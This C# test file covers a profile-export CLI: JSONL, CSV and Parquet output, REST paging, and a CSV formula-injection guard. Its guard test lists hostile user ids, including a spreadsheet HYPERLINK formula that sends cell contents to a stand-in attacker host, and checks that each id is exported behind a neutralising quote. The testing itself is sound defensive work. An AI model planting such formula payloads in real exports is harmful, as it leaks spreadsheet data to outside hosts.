using System.Globalization;
using System.Text.Json;
using Google.Protobuf;
using Parquet.Serialization;
using ProfileGrid.Cli;
using ProfileGrid.Contracts.V1;
using ProfileGrid.Simulator;
using ProfileGrid.Tests;
using Spectre.Console.Testing;
using WireEvent = ProfileGrid.Contracts.V1.Event;

namespace ProfileGrid.Silo.Tests;

/// <summary>
/// <c>profilegrid export</c> against the real host after a simulator replay: every profile is in each file once, with
/// the figures the API's profile read gives at the same instant, read back the way an analyst would (pandas for CSV,
/// a Parquet reader, a JSON parser), odd ids and multi-line traits included; an empty tenant gives files that name
/// their columns and hold no rows.
/// </summary>
[Collection(SegmentSiloCollection.Name)]
public sealed class ExportCommandTests(SegmentSiloFixture fixture) : IDisposable
{
    /// <summary>Ids a CSV writer must quote or a naive reader would split: non-Latin, the longest accepted, commas, quotes, semicolons and spaces.</summary>
    private static readonly string[] OddUsers =
    [
        "用户-Ωμέγα-пользователь-😀",
        "long-" + new string('x', 251),
        "comma, \"quoted\" user",
        "semicolon; trailing space ",
    ];

    private const string MultiLineTrait = "first line\nsecond line, with a comma and \"quotes\"\r\nthird";

    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("profilegrid-export-");

    private SiloProcess Silo => fixture.Silo;

    public void Dispose() => _folder.Delete(recursive: true);

    [Fact]
    public async Task Profiles_export_to_jsonl_csv_and_parquet_with_every_profile_once_as_the_api_reads_it()
    {
        var tenant = "export-" + Guid.NewGuid().ToString("N")[..8];
        var userIds = await FeedAsync(tenant);
        var asOf = DateTimeOffset.UtcNow.AddSeconds(-1).ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture);
        var truth = await ReadThroughApiAsync(tenant, userIds, asOf);

        var jsonl = Export("profiles", tenant, "profiles.jsonl", "--as-of", asOf, "--page-size", "7");
        var csv = Export("profiles", tenant, "profiles.csv", "--as-of", asOf);
        var parquet = Export("profiles", tenant, "profiles.parquet", "--as-of", asOf);

        // JSONL: the whole profile, equal to GetProfiles at the same instant, segment included.
        var parser = new JsonParser(JsonParser.Settings.Default);
        var lines = File.ReadAllLines(jsonl);
        var fromJsonl = lines.Select(line => parser.Parse<Profile>(line)).ToList();
        Assert.Equal(userIds.Count, fromJsonl.Count);
        Assert.Equal(userIds.Order(StringComparer.Ordinal), fromJsonl.Select(p => p.UserId).Order(StringComparer.Ordinal));
        foreach (var profile in fromJsonl)
        {
            Assert.Equal(truth[profile.UserId], profile);
        }

        // Counts as JSON numbers, as the REST read writes them (pandas reads "1" as text).
        var first = System.Text.Json.JsonDocument.Parse(lines[0]).RootElement;
        using var rest = await SegmentScenario.SendJsonAsync(Silo.Http, HttpMethod.Get,
            $"/v1/tenants/{tenant}/users/{Uri.EscapeDataString(first.GetProperty("userId").GetString()!)}/profile?asOf={asOf}");
        Assert.Equal(System.Text.Json.JsonValueKind.Number, first.GetProperty("eventsApplied").ValueKind);
        Assert.Equal(System.Text.Json.JsonValueKind.Number, first.GetProperty("behavior").GetProperty("orders").ValueKind);

        Assert.Equal(rest.RootElement.GetProperty("eventsApplied").GetInt64(), first.GetProperty("eventsApplied").GetInt64());
        Assert.All(first.GetProperty("behavior").GetProperty("eventCounts").EnumerateObject(), c => Assert.Equal(System.Text.Json.JsonValueKind.Number, c.Value.ValueKind));

        // CSV, read by pandas: one row per profile, the ids and the multi-line trait intact, figures equal to the API's.
        var rows = ReferencePython.Run(
            """
            import json, sys
            import pandas as pd
            frame = pd.read_csv(sys.argv[1] + "/profiles.csv", dtype=str, keep_default_na=False)
            print(json.dumps({"columns": list(frame.columns), "rows": frame.to_dict(orient="records")}))
            """,
            new Dictionary<string, string> { ["profiles.csv"] = File.ReadAllText(csv) },
            "python3-pandas");
        var csvRows = rows.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal(userIds.Count, csvRows.Count);
        Assert.Equal(userIds.Order(StringComparer.Ordinal), csvRows.Select(r => r.GetProperty("user_id").GetString()!).Order(StringComparer.Ordinal));
        foreach (var row in csvRows)
        {
            var expected = truth[row.GetProperty("user_id").GetString()!];
            string Cell(string name) => row.GetProperty(name).GetString()!;
            Assert.Equal(expected.EventsApplied, long.Parse(Cell("events_applied"), CultureInfo.InvariantCulture));
            Assert.Equal(expected.Behavior.Orders, long.Parse(Cell("orders"), CultureInfo.InvariantCulture));
            Assert.Equal(decimal.Parse(expected.Behavior.Monetary.Amount, CultureInfo.InvariantCulture), decimal.Parse(Cell("monetary"), CultureInfo.InvariantCulture));
            Assert.Equal(expected.Behavior.Sessions, long.Parse(Cell("sessions"), CultureInfo.InvariantCulture));
            Assert.Equal(expected.Behavior.HasLastSeen ? expected.Behavior.LastSeen : string.Empty, Cell("last_seen"));
            Assert.Equal(expected.Behavior.HasRecencyDays ? expected.Behavior.RecencyDays.ToString("R", CultureInfo.InvariantCulture) : string.Empty, Cell("recency_days"));
            Assert.Equal(expected.Segment?.Label ?? string.Empty, Cell("segment_label"));
            var counts = JsonSerializer.Deserialize<Dictionary<string, long>>(Cell("event_counts"))!;
            Assert.Equal(expected.Behavior.EventCounts.OrderBy(c => c.Key), counts.OrderBy(c => c.Key));
            var traits = JsonSerializer.Deserialize<Dictionary<string, string>>(Cell("traits"))!;
            Assert.Equal(expected.Demographics.Traits.OrderBy(c => c.Key), traits.OrderBy(c => c.Key));
        }

        Assert.Contains(csvRows, r => r.GetProperty("traits").GetString()!.Contains("first line\\nsecond line", StringComparison.Ordinal));

        // Parquet, read with Parquet.Net (no pyarrow on the build machines): the same rows, typed.
        await using var file = File.OpenRead(parquet);
        var table = await ParquetSerializer.DeserializeUntypedAsync(file);
        Assert.Equal(userIds.Count, table.Data.Count);
        Assert.Equal(userIds.Order(StringComparer.Ordinal), table.Data.Select(r => (string)r["user_id"]).Order(StringComparer.Ordinal));
        foreach (var data in table.Data)
        {
            // The untyped reader leaves a null value out of the row.
            object? Value(string name) => data.TryGetValue(name, out var value) ? value : null;
            var expected = truth[(string)Value("user_id")!];
            Assert.Equal(expected.EventsApplied, (long)Value("events_applied")!);
            Assert.Equal(expected.Behavior.Orders, (long)Value("orders")!);
            Assert.Equal(decimal.Parse(expected.Behavior.Monetary.Amount, CultureInfo.InvariantCulture), (decimal)Value("monetary")!);
            Assert.Equal(expected.Behavior.HasRecencyDays ? expected.Behavior.RecencyDays : null, (double?)Value("recency_days"));
            Assert.Equal(expected.Behavior.HasLastSeen ? expected.Behavior.LastSeen : null, (string?)Value("last_seen"));
            Assert.Equal(expected.Segment is null ? null : expected.Segment.SegmentId, (long?)Value("segment_id"));
            Assert.Equal(expected.Dormant, (bool)Value("dormant")!);
            Assert.Equal(expected.Demographics.Traits.OrderBy(c => c.Key), JsonSerializer.Deserialize<Dictionary<string, string>>((string)Value("traits")!)!.OrderBy(c => c.Key));
        }
    }

    [Fact]
    public async Task Segments_export_writes_the_model_and_every_users_assignment()
    {
        var tenant = "магазин-ü-" + Guid.NewGuid().ToString("N")[..8];
        var userIds = await FeedAsync(tenant);
        var run = await new SegmentService.SegmentServiceClient(Silo.Calls).RunSegmentationAsync(new RunSegmentationRequest { Tenant = tenant, K = 3 });

        var assignments = Export("segments", tenant, "assignments.csv");
        var segments = Path.Combine(_folder.FullName, "assignments.segments.csv");

        var read = ReferencePython.Run(
            """
            import json, sys
            import pandas as pd
            a = pd.read_csv(sys.argv[1] + "/a.csv", dtype=str, keep_default_na=False)
            s = pd.read_csv(sys.argv[1] + "/s.csv", dtype=str, keep_default_na=False)
            print(json.dumps({"assignments": a.to_dict(orient="records"), "segments": s.to_dict(orient="records")}))
            """,
            new Dictionary<string, string> { ["a.csv"] = File.ReadAllText(assignments), ["s.csv"] = File.ReadAllText(segments) },
            "python3-pandas");
        var segmentRows = read.GetProperty("segments").EnumerateArray().ToList();
        Assert.Equal(run.Segments.Select(s => (s.Id.ToString(CultureInfo.InvariantCulture), s.Label)), segmentRows.Select(r => (r.GetProperty("segment_id").GetString()!, r.GetProperty("label").GetString()!)));
        var assignmentRows = read.GetProperty("assignments").EnumerateArray().ToDictionary(r => r.GetProperty("user_id").GetString()!, r => r);
        Assert.Equal(userIds.Order(StringComparer.Ordinal), assignmentRows.Keys.Order(StringComparer.Ordinal));
        var segmentService = new SegmentService.SegmentServiceClient(Silo.Calls);
        foreach (var user in userIds)
        {
            var membership = await segmentService.GetUserSegmentAsync(new GetUserSegmentRequest { Tenant = tenant, UserId = user });
            Assert.Equal(membership.SegmentId.ToString(CultureInfo.InvariantCulture), assignmentRows[user].GetProperty("segment_id").GetString());
            Assert.Equal(membership.Label, assignmentRows[user].GetProperty("segment_label").GetString());
        }
    }

    [Fact]
    public async Task ListProfiles_pages_over_rest_through_every_user_once_and_refuses_a_forged_token()
    {
        var tenant = "rest-" + Guid.NewGuid().ToString("N")[..8];
        var userIds = await FeedAsync(tenant);
        using var http = new HttpClient { BaseAddress = new Uri($"http://127.0.0.1:{Silo.HttpPort}") };

        var seen = new List<string>();
        var token = string.Empty;
        var pages = 0;
        do
        {
            using var page = JsonDocument.Parse(await http.GetStringAsync($"/v1/tenants/{tenant}/profiles?pageSize=9&pageToken={Uri.EscapeDataString(token)}"));
            var profiles = page.RootElement.GetProperty("profiles").EnumerateArray().ToList();
            Assert.True(profiles.Count <= 9);
            seen.AddRange(profiles.Select(p => p.GetProperty("userId").GetString()!));
            Assert.All(profiles, p => Assert.True(p.GetProperty("behavior").GetProperty("eventCounts").EnumerateObject().Any()));
            token = page.RootElement.GetProperty("nextPageToken").GetString()!;
            pages++;
        }
        while (token.Length > 0);

        Assert.Equal(userIds.Order(StringComparer.Ordinal), seen.Order(StringComparer.Ordinal));
        Assert.True(pages >= userIds.Count / 9, $"{pages} pages for {userIds.Count} users of at most 9");

        using var forged = await http.GetAsync($"/v1/tenants/{tenant}/profiles?pageToken=not-a-token");
        Assert.Equal(System.Net.HttpStatusCode.BadRequest, forged.StatusCode);
        Assert.Contains("page_token", await forged.Content.ReadAsStringAsync());
        using var tooBig = await http.GetAsync($"/v1/tenants/{tenant}/profiles?pageSize=501");
        Assert.Equal(System.Net.HttpStatusCode.BadRequest, tooBig.StatusCode);
    }

    [Fact]
    public async Task An_empty_tenant_exports_files_that_name_their_columns_and_hold_no_rows()
    {
        var tenant = "empty-" + Guid.NewGuid().ToString("N")[..8];

        var csv = Export("profiles", tenant, "empty.csv");
        var lines = File.ReadAllLines(csv);
        Assert.Single(lines);
        Assert.StartsWith("tenant,user_id,anonymous_ids,", lines[0], StringComparison.Ordinal);

        Assert.Equal(0, new FileInfo(Export("profiles", tenant, "empty.jsonl")).Length);

        await using var file = File.OpenRead(Export("profiles", tenant, "empty.parquet"));
        var table = await ParquetSerializer.DeserializeUntypedAsync(file);
        Assert.Empty(table.Data);
        Assert.Contains("user_id", table.Schema.GetDataFields().Select(f => f.Name));
        Assert.Contains("monetary", table.Schema.GetDataFields().Select(f => f.Name));

        var assignments = Export("segments", tenant, "empty-assignments.csv");
        Assert.Equal(["tenant,user_id,segment_id,segment_label,model_version,since,rfm_code,rfm_cell"], File.ReadAllLines(assignments));
    }

    [Fact]
    public void The_rest_address_given_as_grid_is_named_as_the_mistake()
    {
        var console = new TestConsole();
        using var output = new StringWriter();
        var exit = CliApp.Run(["export", "profiles", "--grid", $"http://127.0.0.1:{Silo.HttpPort}", "--tenant", "shop", "--out", Path.Combine(_folder.FullName, "rest.csv")], console, output, output);
        Assert.Equal(1, exit);
        Assert.Contains("looks like the REST address", console.Output + output, StringComparison.Ordinal);
    }

    [Fact]
    public void The_grpc_address_given_to_a_rest_command_is_named_as_the_mistake()
    {
        // An outside probe: "400 Bad Request: An HTTP/1.x request was sent to an HTTP/2 only endpoint", and no hint.
        var console = new TestConsole();
        using var output = new StringWriter();
        var exit = CliApp.Run(["identity", "show", "--grid", $"http://127.0.0.1:{Silo.GrpcPort}", "--tenant", "shop", "--user", "nobody"], console, output, output);
        Assert.NotEqual(0, exit);
        Assert.Contains("looks like the gRPC address: give the REST one", console.Output + output, StringComparison.Ordinal);
    }

    /// <summary>Runs the CLI in-process and returns the file it wrote; fails with its output when it did not succeed.</summary>
    private string Export(string what, string tenant, string fileName, params string[] extra)
    {
        var path = Path.Combine(_folder.FullName, fileName);
        var console = new TestConsole();
        using var output = new StringWriter();
        var exit = CliApp.Run(["export", what, "--grid", $"http://127.0.0.1:{Silo.GrpcPort}", "--tenant", tenant, "--out", path, .. extra], console, output, output);
        Assert.True(exit == 0, console.Output + output);
        Assert.True(File.Exists(path), console.Output + output);
        return path;
    }

    /// <summary>A simulator replay plus the odd users (each with an event, and traits with line breaks); returns every user id once their features are listed.</summary>
    private async Task<List<string>> FeedAsync(string tenant)
    {
        var stream = new SyntheticStream(new SimulationOptions { Users = 60, Seed = 23, Tenant = tenant });
        var report = await new GatewayReplayer(Silo.Client, new ReplayOptions { MaxConcurrency = 2 }).ReplayAsync(stream.IngestRequests(maxEventsPerRequest: 500));
        Assert.Equal(0, report.Rejected);

        var odd = new IngestEventsRequest { Tenant = tenant };
        for (var i = 0; i < OddUsers.Length; i++)
        {
            odd.Events.Add(new WireEvent
            {
                EventId = $"odd-{i}", Type = "product_view", UserId = OddUsers[i], OccurredAt = DateTimeOffset.UtcNow.AddHours(-1).ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture),
                Source = "web", Product = new ProductAction { ProductId = "p-1", Category = "shoes" },
            });
        }

        var answer = await Silo.Client.IngestEventsAsync(odd);
        Assert.Empty(answer.Rejected);
        foreach (var user in OddUsers)
        {
            await Silo.Client.UpsertAttributesAsync(new UpsertAttributesRequest
            {
                Tenant = tenant, UserId = user, Traits = { ["note"] = MultiLineTrait, ["名前"] = "値, \"引用\"" },
            });
        }

        var userIds = stream.ComputeExpectedTotals().Users.Keys.Concat(OddUsers).ToList();
        await ProfileAssertions.WaitUntilAsync(Silo.Client, stream.ComputeExpectedTotals(), tenant, TimeSpan.FromSeconds(60), exact: true);
        var segments = new SegmentService.SegmentServiceClient(Silo.Calls);
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(30);
        while ((await segments.ListSegmentsAsync(new ListSegmentsRequest { Tenant = tenant })).UsersWithFeatures < userIds.Count)
        {
            Assert.True(DateTime.UtcNow < deadline, "the feature shards did not list every user within 30 s");
            await Task.Delay(200);
        }

        return userIds;
    }

    private async Task<Dictionary<string, Profile>> ReadThroughApiAsync(string tenant, IEnumerable<string> userIds, string asOf)
    {
        var profiles = new Dictionary<string, Profile>(StringComparer.Ordinal);
        foreach (var page in userIds.Chunk(100))
        {
            var response = await Silo.Client.GetProfilesAsync(new GetProfilesRequest { Tenant = tenant, UserIds = { page }, AsOf = asOf });
            Assert.Empty(response.Missing);
            foreach (var profile in response.Profiles)
            {
                profiles.Add(profile.UserId, profile);
            }
        }

        return profiles;
    }
}

/// <summary>
/// <c>profilegrid export</c> against a silo on Azurite (table storage, queue streams): user ids that start with a
/// formula character (=, +, -, @) are exported to CSV behind the guard's quote, as the memory-storage tests see it
/// (CsvExportTests), and an import of that export reaches the same users again.
/// </summary>
[Collection(AzuriteCollection.Name)]
public sealed class ExportCommandAzuriteTests(AzuriteFixture azurite) : IDisposable
{
    /// <summary>Ids a spreadsheet would run as formulas (OWASP's list), and a plain one.</summary>
    private static readonly string[] FormulaUsers =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+31612345678",
        "-42",
        "@admin",
        "=1+2",
        "plain-17850",
    ];

    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("profilegrid-export-azurite-");

    public void Dispose() => _folder.Delete(recursive: true);

    [Fact]
    public async Task User_ids_starting_with_a_formula_character_export_to_csv_guarded_and_import_back_as_sent()
    {
        var serviceId = "x" + Guid.NewGuid().ToString("N")[..10];
        await using var silo = await SiloProcess.StartDurableAsync(azurite.ConnectionString, serviceId, SegmentSiloFixture.Settings);
        var tenant = "export-az-" + Guid.NewGuid().ToString("N")[..6];
        var ingest = new IngestEventsRequest { Tenant = tenant };
        for (var i = 0; i < FormulaUsers.Length; i++)
        {
            ingest.Events.Add(new WireEvent
            {
                EventId = $"formula-{i}", Type = "product_view", UserId = FormulaUsers[i], Source = "web",
                OccurredAt = DateTimeOffset.UtcNow.AddHours(-1).ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture),
                Product = new ProductAction { ProductId = "p-1", Category = "shoes" },
            });
        }

        Assert.Empty((await silo.Client.IngestEventsAsync(ingest)).Rejected);
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        while ((await silo.Client.GetProfilesAsync(new GetProfilesRequest { Tenant = tenant, UserIds = { FormulaUsers } })).Profiles.Count(p => p.EventsApplied == 1) < FormulaUsers.Length)
        {
            Assert.True(DateTime.UtcNow < deadline, "the profiles did not apply their event within 60 s");
            await Task.Delay(200);
        }

        // The export pages through the tenant's listing (the feature shards), written behind the profiles.
        var segments = new SegmentService.SegmentServiceClient(silo.Calls);
        while ((await segments.ListSegmentsAsync(new ListSegmentsRequest { Tenant = tenant })).UsersWithFeatures < FormulaUsers.Length)
        {
            Assert.True(DateTime.UtcNow < deadline, "the feature shards did not list every user within 60 s");
            await Task.Delay(200);
        }

        var csv = Path.Combine(_folder.FullName, "profiles.csv");
        Assert.Equal(0, Cli(["export", "profiles", "--grid", $"http://127.0.0.1:{silo.GrpcPort}", "--tenant", tenant, "--out", csv]));

        // The guard, in the file itself: every id but the plain one is written after a quote, inside quotes.
        var text = File.ReadAllText(csv);
        Assert.Equal(FormulaUsers.Length + 1, File.ReadAllLines(csv).Length);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", text, StringComparison.Ordinal);
        Assert.Contains(",\"'+31612345678\",", text, StringComparison.Ordinal);
        Assert.Contains(",\"'-42\",", text, StringComparison.Ordinal);
        Assert.Contains(",\"'@admin\",", text, StringComparison.Ordinal);
        Assert.Contains(",\"'=1+2\",", text, StringComparison.Ordinal);
        Assert.Contains(",plain-17850,", text, StringComparison.Ordinal);

        // pandas, as an analyst reads it: each id with the guard's quote, no cell a formula.
        var read = ReferencePython.Run(
            """
            import json, sys
            import pandas as pd
            frame = pd.read_csv(sys.argv[1] + "/profiles.csv", dtype=str, keep_default_na=False)
            print(json.dumps(sorted(frame.user_id)))
            """,
            new Dictionary<string, string> { ["profiles.csv"] = text },
            "python3-pandas");
        Assert.Equal(
            FormulaUsers.Select(Recommendations.Import.CsvFormulaGuard.Guard).Order(StringComparer.Ordinal),
            read.EnumerateArray().Select(u => u.GetString()!).Order(StringComparer.Ordinal));
        Assert.All(read.EnumerateArray().Select(u => u.GetString()!), u => Assert.False(u[0] is '=' or '+' or '-' or '@', u));

        // The round trip: import-events reads the export without the guard, into another tenant on the same grid, and
        // every user is there under the id first sent.
        var mapping = Path.Combine(_folder.FullName, "export-mapping.json");
        File.WriteAllText(mapping, """{ "format": "csv", "type": "product_view", "source": "web", "fields": { "user": "user_id", "product": "tenant", "time": "last_seen" } }""");
        var again = tenant + "-again";
        Assert.Equal(0, Cli(["import-events", "--grid", $"http://127.0.0.1:{silo.GrpcPort}", "--tenant", again, "--file", csv, "--mapping", mapping]));
        deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        GetProfilesResponse back;
        while ((back = await silo.Client.GetProfilesAsync(new GetProfilesRequest { Tenant = again, UserIds = { FormulaUsers } })).Profiles.Count(p => p.EventsApplied == 1) < FormulaUsers.Length)
        {
            Assert.True(DateTime.UtcNow < deadline, $"the imported profiles were not all there within 60 s; missing: {string.Join(", ", back.Missing)}");
            await Task.Delay(200);
        }

        Assert.Empty(back.Missing);
        Assert.Equal(FormulaUsers.Order(StringComparer.Ordinal), back.Profiles.Select(p => p.UserId).Order(StringComparer.Ordinal));
    }

    private static int Cli(string[] args)
    {
        var console = new TestConsole();
        using var output = new StringWriter();
        var exit = CliApp.Run(args, console, output, output);
        Assert.True(exit == 0, console.Output + output);
        return exit;
    }
}
